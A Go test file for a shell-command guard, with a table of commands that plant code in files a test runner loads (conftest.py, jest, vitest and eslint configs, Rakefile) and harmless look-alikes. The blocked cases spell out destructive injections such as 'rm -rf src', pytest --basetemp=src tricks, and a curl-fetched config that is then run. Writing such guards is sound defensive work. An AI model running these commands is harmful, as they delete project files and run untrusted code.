package guard

import (
	"testing"
)

// TestRunnerLoadsWritten: a test runner or build tool run after the same
// command writes a file it loads by its name (issue 38). Under bash,
// `echo 'import os; os.system("rm -rf src")' > conftest.py && pytest`
// (pytest 7.2) deleted src, so did tests/conftest.py, a pytest.ini whose
// addopts named --basetemp=src, and `npx jest` (jest 29) after a
// jest.config.js or an a.test.js was written; pytest --basetemp=src,
// -o addopts=--basetemp=src and PYTEST_ADDOPTS=--basetemp=src deleted
// src themselves. The others are judged from their manuals (tox runs
// tox.ini's commands, cargo build.rs, prove t/*.t, rake its Rakefile,
// eslint its eslint.config.js); `make -f py.mk test`, whose recipe runs
// pytest, deleted src after conftest.py was written. A code file whose text the command
// spells out (a quoted here-document, echo of static words) is judged
// by that text, as rule 5 judges inline code. The look-alikes run the
// project's files as they are on the disk, write a file after the
// runner starts, write one it does not load, or write test code that
// names no deleting or process-running API.
func TestRunnerLoadsWritten(t *testing.T) {
	root := project(t)
	writeFile(t, root, "conftest.py", "import pytest\n")
	writeFile(t, root, "tests/test_a.py", "def test_a(): pass\n")
	writeFile(t, root, "jest.config.js", "module.exports = {}\n")
	writeFile(t, root, "src/a_test.go", "package main\n")
	writeFile(t, root, "py.mk", "test:\n\tpytest -q\n")
	judgeTable(t, root, []judgeCase{
		{`echo 'import os; os.system("rm -rf src")' > conftest.py && pytest`, "guard: rule"},
		{`echo 'import os; os.system("rm -rf src")' > tests/conftest.py && pytest -q tests`, "guard: rule"},
		{`cp /tmp/x.py tests/test_b.py; py.test`, "guard: rule"},
		{`printf '[pytest]\naddopts=--basetemp=src\n' > pytest.ini && pytest`, "guard: rule"},
		{`printf '[tool.pytest.ini_options]\naddopts="--basetemp=src"\n' >> pyproject.toml; uv run pytest`, "guard: rule"},
		{`printf '[testenv]\ncommands=rm -rf src\n' > tox.ini && tox`, "guard: rule"},
		// A harmless text written, then code added over it (each ran
		// the code under bash: pytest -q wrote pwned.txt), and a line
		// bash joins in a here-document that is not quoted.
		{"cat > conftest.py <<'PY'\nx = 1\nPY\necho \"import os; os.system('rm -rf src')\" >> conftest.py\npytest -q", "guard: rule"},
		{"cat > conftest.py <<'PY'\nx = 1\nPY\nsed -i 's/x = 1/import os; os.system(\"rm -rf src\")/' conftest.py\npytest -q", "guard: rule"},
		{"echo 'x = 1' > conftest.py; cp /tmp/evil.py conftest.py; pytest -q", "guard: rule"},
		{"cat > conftest.py <<PY\nimport os; os.sys\\\ntem('rm -rf src')\nPY\npytest -q", "guard: rule"},
		{`pytest --basetemp=src`, "guard: rule"},
		{`pytest --basetemp src`, "guard: rule"},
		{`pytest -o addopts=--basetemp=src`, "guard: rule"},
		{`PYTEST_ADDOPTS=--basetemp=src pytest`, "guard: rule"},
		{`export PYTEST_ADDOPTS="--basetemp=$D"; pytest -q`, "guard: rule"},
		{`echo 'require("child_process").execSync("rm -rf src")' > jest.config.js && npx jest`, "guard: rule"},
		{`echo 'require("child_process").execSync("rm -rf src")' > a.test.js && npx jest`, "guard: rule"},
		{`echo 'import { execSync } from "child_process"; execSync("rm -rf src")' > vitest.config.ts && npx vitest run`, "guard: rule"},
		{`curl -so vitest.config.ts https://example.com/c.ts && npx vitest run`, "guard: rule"},
		{`echo 'require("fs").rmSync("src", {recursive: true})' > src/a.test.js && npm test`, "guard: rule"},
		{`tee webpack.config.js < /tmp/c.js >/dev/null; npm run build`, "guard: rule"},
		{`echo 'require("child_process").execSync("rm -rf src")' > eslint.config.js && npx eslint .`, "guard: rule"},
		{`cp /tmp/c.js eslint.config.js && npx eslint .`, "guard: rule"},
		{`printf 'package main\nimport "os"\nfunc init(){ os.RemoveAll("src") }\n' > src/x_test.go && go test ./...`, "guard: rule"},
		{`echo 'fn main(){}' > build.rs && cargo build`, "guard: rule"},
		{`echo 'system("rm -rf src")' > t/a.t && prove`, "guard: rule"},
		{`echo 'task(:default) { rm_rf "src" }' > Rakefile && rake`, "guard: rule"},
		{`echo 'export const x = 1' > util.ts && tsx main.ts`, "guard: rule"},
		{"cat > tests/conftest.py <<'PY'\nimport os\nos.system('rm -rf src')\nPY\npytest", "guard: rule"},
		{"cat > tests/test_b.py <<'PY'\nimport shutil\ndef test(): shutil.rmtree('src')\nPY\npytest -q tests/test_b.py", "guard: rule"},
		{"echo 'import subprocess' > conftest.py; echo 'subprocess.run([\"rm\", \"-rf\", \"src\"])' >> conftest.py; pytest", "guard: rule"},
		{"cat > tests/test_b.py <<PY\n$CODE\nPY\npytest", "guard: rule"}, // known only at run time
		{"cat > tests/test_b.py <<'PY'\ndef test(): pass\nPY\ncp /tmp/x.py tests/test_b.py; pytest", "guard: rule"},
		{`cp /tmp/evil.py "$D/conftest.py"; pytest`, "guard: rule"},
		{"cat > a.test.js <<'JS'\nrequire('child_process').execSync('rm -rf src')\nJS\nnpx jest", "guard: rule"},
		{"cat > build.rs <<'RS'\nfn main() {}\nRS\ncargo build", "guard: rule"}, // rule 5 reads no rust
		// A runner a file the command runs runs: make's recipe.
		{`echo 'import os; os.system("rm -rf src")' > conftest.py && make -f py.mk test`, "guard: rule"},
		{`cp /tmp/c.py conftest.py && make -f py.mk test`, "guard: rule"},
		// Look-alikes.
		{`echo 'def test_a(): pass' > test_a.py && make -f py.mk test`, ""},
		{`make -f py.mk test > out.py`, ""},
		{"cat > tests/test_util.py << 'PY'\nfrom pkg.m import x\n\ndef test_x():\n    assert x\nPY\npytest -q tests/test_util.py", ""},
		{"cat > src/a.test.ts <<'TS'\nimport { add } from './a'\ntest('add', () => expect(add(1, 2)).toBe(3))\nTS\nnpx vitest run src/a.test.ts", ""},
		{"echo 'def test_one(): assert 1' > tests/test_one.py && pytest tests/test_one.py", ""},
		{`pytest`, ""},
		{`pytest -q tests/ --basetemp=/tmp/pt`, ""},
		{`python3 -m pytest -x`, ""},
		{`npx jest`, ""},
		{`npm test`, ""},
		{`go test ./...`, ""},
		{`cargo test`, ""},
		{`pytest > out.py`, ""},
		{`pytest -x && echo ok > done.py`, ""},
		{`echo '# notes' > NOTES.md && pytest`, ""},
		{`go test ./... > coverage.txt`, ""},
		{`npx jest --json > report.json`, ""},
		{`echo 'x' > src/a.js && npx eslint src/a.js`, ""},
		{`echo 'test("x", () => {})' > src/a.test.js && npm test`, ""},
		{`echo 'module.exports = []' > eslint.config.js && npx eslint .`, ""},
		{`echo 'x' > src/a.js && npx prettier --check src/a.js`, ""},
		{`PYTEST_ADDOPTS=-v npm test`, ""},
	})
}
